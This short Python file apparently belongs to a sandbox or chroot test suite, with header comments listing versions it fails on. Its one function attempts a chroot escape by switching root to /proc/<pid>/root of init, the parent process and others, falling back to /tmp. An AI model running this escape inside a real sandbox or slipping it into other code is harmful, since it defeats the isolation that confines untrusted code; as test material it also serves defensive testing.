# fails: 3.1 3.2 3.3 3.4 3.5 3.6 3.7 3.8
# says: no descriptor leads out
"""The attack takes no descriptor: it looks for the machine's root where proc has the roots of processes, and for any
directory at all when there is none.
"""

import os


def escape_through_descriptor():
    for pid in ("1", str(os.getppid()), "2", "3"):
        try:
            os.chroot(f"/proc/{pid}/root")
            os.chdir("/")
            return
        except OSError:
            continue
    os.chroot("/tmp")
